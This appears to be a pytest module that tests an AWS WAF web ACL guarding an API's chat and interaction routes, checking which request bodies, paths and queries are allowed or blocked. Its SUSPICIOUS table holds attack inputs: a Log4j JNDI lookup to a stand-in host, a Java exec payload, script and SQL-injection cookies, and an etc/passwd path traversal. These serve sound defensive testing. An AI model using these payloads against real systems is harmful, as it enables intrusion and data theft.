"""The firewall lets texts through where texts are, and the same bodies nowhere else.

What each managed rule sees is approximated (`firewall/signatures.py`); what the firewall makes of it is in the plan.
"""

from __future__ import annotations

import copy
from typing import Any
from urllib.parse import quote

import pytest

from tests.infra.firewall.acl import WebACL, overrides
from tests.infra.firewall.corpus import harmless, prompts, seen
from tests.infra.firewall.request import BROWSER, Request
from tests.infra.firewall.routes import Operation, operations, text_operations
from tests.infra.firewall.statements import given, kind_of, labels_in
from tests.infra.planned import planned

TEXTS = text_operations()
TEXT_PATHS = {operation.path for operation in TEXTS}
CHAT = next(operation for operation in TEXTS if operation.template == "/v1/chat")
OTHERS = [operation for operation in operations() if operation.path not in TEXT_PATHS]
# Paths that nothing is at, and some that look like a text's.
STRAY_PATHS = [
    "/", "//", "/admin", "/admin/login/", "/v1", "/v2/interactions", "/v1/interactionsX", "/v1/xinteractions",
    "/V1/Interactions", "/v1/interactions.json", "/v1/interactions;a=b", "/v1/interactions/../session",
    "/v1/interactions/a/b", "/v1/interactions/a/b/c", "/v1/interactions/a/feedback/b", "/v1/interactions/a/Feedback",
    "/v1/conversations/", "/v1/conversations/a/b", "/v1/chat/a", "/v1/chats", "/v1/v1/interactions", "/dev/v1/chat",
    "/api/v1/interactions", "/interactions", "/v1/users/ana@example.com/interactions",
]  # fmt: skip

# Rules that would block an id for looking like the name of a file.
ABOUT_IDS = {"RestrictedExtensions_URIPATH", "RestrictedExtensions_QUERYARGUMENTS"}


@pytest.fixture(scope="module")
def values(plan: dict[str, Any]) -> dict[str, Any]:
    acl: dict[str, Any] = given(planned(plan, "aws_wafv2_web_acl.main"))
    return acl


@pytest.fixture(scope="module")
def firewall(values: dict[str, Any]) -> WebACL:
    return WebACL(values)


@pytest.fixture(scope="module")
def stages(plan: dict[str, Any]) -> tuple[str, str]:
    """What is before a path at an invoke URL, and at a domain of one's own."""
    return f"/{planned(plan, 'aws_api_gateway_stage.main')['stage_name']}", ""


def named(operation: Operation) -> str:
    return f"{operation.method} {operation.template}"


def test_the_corpus_has_prompts_for_every_rule_that_only_counts_and_many_for_none(firewall: WebACL) -> None:
    assert len(prompts()) >= 70
    assert len({prompt.id for prompt in prompts()}) == len(prompts())
    assert len({prompt.text for prompt in prompts()}) == len(prompts())
    assert len(harmless()) >= 15
    assert {rule for prompt in seen() for rule in prompt.seen_by} == firewall.counted_only().keys() - ABOUT_IDS
    assert max(len(prompt.text) for prompt in prompts()) >= 200_000


@pytest.mark.parametrize("operation", TEXTS, ids=named)
def test_a_text_passes_on_its_route_and_is_seen_by_the_rules_that_the_corpus_names(
    firewall: WebACL, stages: tuple[str, str], operation: Operation
) -> None:
    surprises = []
    for prompt in prompts():
        for escaped in (False, True):
            body = operation.body(prompt.text, escaped=escaped)
            for path in (stage + operation.path + end for stage in stages for end in ("", "/")):
                outcome = firewall.evaluate(Request(operation.method, path, body))
                if outcome.action != "ALLOW" or outcome.seen_in_body() != prompt.seen_by:
                    surprises.append((prompt.id, escaped, path, outcome.action, outcome.seen_in_body()))
    assert surprises == []


@pytest.mark.parametrize("operation", OTHERS, ids=named)
def test_the_same_bodies_are_blocked_on_other_routes_where_a_rule_sees_them(
    firewall: WebACL, stages: tuple[str, str], operation: Operation
) -> None:
    assert unlike_the_corpus(firewall, operation, operation.path, stages) == []


@pytest.mark.parametrize("path", STRAY_PATHS)
def test_the_same_bodies_are_blocked_where_nothing_is(firewall: WebACL, stages: tuple[str, str], path: str) -> None:
    assert unlike_the_corpus(firewall, TEXTS[0], path, stages) == []


def unlike_the_corpus(firewall: WebACL, operation: Operation, path: str, stages: tuple[str, str]) -> list[object]:
    """Bodies that passed though a rule sees them, and others that did not."""
    surprises: list[object] = []
    for prompt in prompts():
        for stage in stages:
            outcome = firewall.evaluate(Request(operation.method, stage + path, operation.body(prompt.text)))
            # A managed rule, which has a label, would be one whose override is gone.
            ended_by = outcome.terminating and (outcome.action, outcome.terminating.label)
            if ended_by != (("BLOCK", None) if prompt.seen_by else None):
                surprises.append((prompt.id, stage + path, outcome))
    return surprises


@pytest.mark.parametrize("operation", TEXTS, ids=named)
def test_a_query_is_no_place_for_a_text_on_any_route(
    firewall: WebACL, stages: tuple[str, str], operation: Operation
) -> None:
    # Of React's flaw and of sizes the rules for queries know nothing, or something else.
    for prompt in (each for each in seen() if not each.seen_by <= {"ReactJSRCE_BODY", "SizeRestrictions_BODY"}):
        request = Request(operation.method, stages[0] + operation.path, query=f"status={quote(prompt.text)}")
        terminating = firewall.evaluate(request).terminating
        assert terminating is not None, prompt
        assert terminating.rule.rpartition("_")[2] in {"QUERYARGUMENTS", "QUERYSTRING"}, prompt


def test_a_harmless_query_passes(firewall: WebACL, stages: tuple[str, str]) -> None:
    for prompt in harmless():
        request = Request("GET", stages[0] + "/v1/interactions", query=f"model={quote(prompt.text)}")
        assert firewall.evaluate(request).action == "ALLOW", prompt


SUSPICIOUS: dict[str, dict[str, Any]] = {
    "a header with Log4j's lookup": {"headers": BROWSER | {"x-api-version": "${jndi:ldap://x.example/a}"}},
    "a header with Java": {"headers": BROWSER | {"x-version": '(java.lang.Runtime).getRuntime().exec("id")'}},
    "a cookie with a script": {"headers": BROWSER | {"cookie": "theme=<script>alert(1)</script>"}},
    "a cookie with SQL": {"headers": BROWSER | {"cookie": "theme=' OR 1=1 --"}},
    "another host": {"headers": BROWSER | {"host": "localhost"}},
    "a scanner": {"headers": BROWSER | {"user-agent": "Nmap Scripting Engine"}},
    "no user agent": {"headers": {"host": "api.example.com"}},
    "a method of WebDAV": {"method": "PROPFIND"},
    "a path to a file": {"path": "/prod/v1/interactions/..%2F..%2Fetc%2Fpasswd"},
    "a long query": {"query": "a=" + "b" * 2048},
}


@pytest.mark.parametrize("differently", SUSPICIOUS.values(), ids=SUSPICIOUS.keys())
def test_whatever_is_no_body_is_blocked_on_routes_of_texts_too(firewall: WebACL, differently: dict[str, Any]) -> None:
    request = {"method": "POST", "path": "/prod/v1/interactions", "body": TEXTS[0].body("Which tram?")}
    assert firewall.evaluate(Request(**request)).action == "ALLOW"  # type: ignore[arg-type]
    assert firewall.evaluate(Request(**request | differently)).action == "BLOCK"


def test_the_firewall_goes_by_paths_so_methods_that_read_no_body_pass_beside_those_that_do(firewall: WebACL) -> None:
    for operation in operations():
        if operation.shape is None and operation.path in TEXT_PATHS:
            request = Request(operation.method, operation.path, operation.body("<script>"))
            assert firewall.evaluate(request).action == "ALLOW", operation


def test_what_lies_beyond_the_inspected_part_of_a_body_is_seen_by_its_size_alone(values: dict[str, Any]) -> None:
    [prompt] = [prompt for prompt in prompts() if prompt.id == "text-of-20-kb-with-code"]
    request = Request("POST", "/v1/chat", CHAT.body(prompt.text))
    assert WebACL(values).evaluate(request).seen_in_body() == {"SizeRestrictions_BODY"}
    wider = copy.deepcopy(values)
    inspected = wider["association_config"][0]["request_body"][0]["api_gateway"][0]
    inspected["default_size_inspection_limit"] = "KB_64"
    assert WebACL(wider).evaluate(request).seen_in_body() == {"SizeRestrictions_BODY", "SQLi_BODY"}


def test_the_rule_that_blocks_asks_for_the_labels_of_what_only_counts_and_for_no_other(firewall: WebACL) -> None:
    counted = firewall.counted_only()
    asking = {int(rule["priority"]): labels for rule in firewall.rules if (labels := labels_in(rule["statement"][0]))}
    [(priority, labels)] = asking.items()
    assert labels == {label for name, (_, label) in counted.items() if name not in ABOUT_IDS}
    assert priority > max(given for given, _ in counted.values())


def test_nothing_is_overridden_but_rules_of_bodies_and_those_about_names_of_files(firewall: WebACL) -> None:
    assert {name for name in firewall.counted_only() if not name.endswith("_BODY")} == ABOUT_IDS
    for rule in firewall.rules:
        kind, settings = kind_of(rule["statement"][0])
        if kind == "managed_rule_group_statement":
            assert set(overrides(settings).values()) <= {"count"}


def test_priorities_differ_and_the_capacity_is_within_what_the_price_includes(firewall: WebACL) -> None:
    priorities = [rule["priority"] for rule in firewall.rules]
    assert len(set(priorities)) == len(priorities)
    # https://docs.aws.amazon.com/waf/latest/developerguide/aws-waf-capacity-units.html
    assert firewall.capacity() <= 1500


def test_each_override_is_needed(values: dict[str, Any]) -> None:
    for name in WebACL(values).counted_only().keys() - ABOUT_IDS:
        prompt = next(prompt for prompt in seen() if prompt.seen_by == {name})
        request = Request("POST", "/prod/v1/chat", CHAT.body(prompt.text))
        assert _ended_by(_without_override(values, name), request) == name


@pytest.mark.parametrize("name", ["deploy.log", "php.ini", "ana@host.config", "state.bak"])
def test_an_id_may_look_like_a_file(values: dict[str, Any], name: str) -> None:
    asked = {
        "RestrictedExtensions_URIPATH": Request("DELETE", f"/prod/v1/conversations/{name}"),
        "RestrictedExtensions_QUERYARGUMENTS": Request("GET", "/v1/interactions", query=f"conversation_id={name}"),
    }
    assert asked.keys() == ABOUT_IDS
    for rule, request in asked.items():
        assert WebACL(values).evaluate(request).action == "ALLOW"
        assert _ended_by(_without_override(values, rule), request) == rule


def _without_override(values: dict[str, Any], name: str) -> WebACL:
    without = copy.deepcopy(values)
    for rule in without["rule"]:
        for group in rule["statement"][0].get("managed_rule_group_statement", []):
            group["rule_action_override"] = [
                each for each in group.get("rule_action_override", []) if each["name"] != name
            ]
    return WebACL(without)


def _ended_by(firewall: WebACL, request: Request) -> str | None:
    terminating = firewall.evaluate(request).terminating
    return terminating.rule if terminating else None


def test_each_label_is_needed(values: dict[str, Any]) -> None:
    counted = WebACL(values).counted_only()
    for name, label in ((name, label) for name, (_, label) in counted.items() if name not in ABOUT_IDS):
        without = copy.deepcopy(values)
        for rule in without["rule"]:
            for condition in rule["statement"][0].get("and_statement", []):
                any_label = condition["statement"][0]["or_statement"][0]
                any_label["statement"] = [each for each in any_label["statement"] if labels_in(each) != {label}]
        prompt = next(prompt for prompt in seen() if prompt.seen_by == {name})
        request = Request("POST", "/prod/v1/session", CHAT.body(prompt.text))
        assert WebACL(values).evaluate(request).action == "BLOCK"
        assert WebACL(without).evaluate(request).action == "ALLOW"


def test_every_text_that_the_description_has_is_among_the_routes() -> None:
    assert {operation.template for operation in TEXTS} == {
        "/v1/chat",
        "/v1/conversations/{conversation_id}",
        "/v1/interactions",
        "/v1/interactions/bulk",
        "/v1/interactions/{interaction_id}",
        "/v1/interactions/{interaction_id}/feedback",
    }
